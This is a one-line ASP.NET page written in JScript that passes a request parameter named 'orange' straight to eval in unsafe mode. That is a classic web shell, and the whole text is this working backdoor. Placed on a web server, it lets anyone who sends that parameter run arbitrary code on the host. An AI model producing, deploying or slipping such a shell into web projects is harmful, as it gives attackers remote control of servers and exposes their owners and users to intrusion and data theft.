<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>
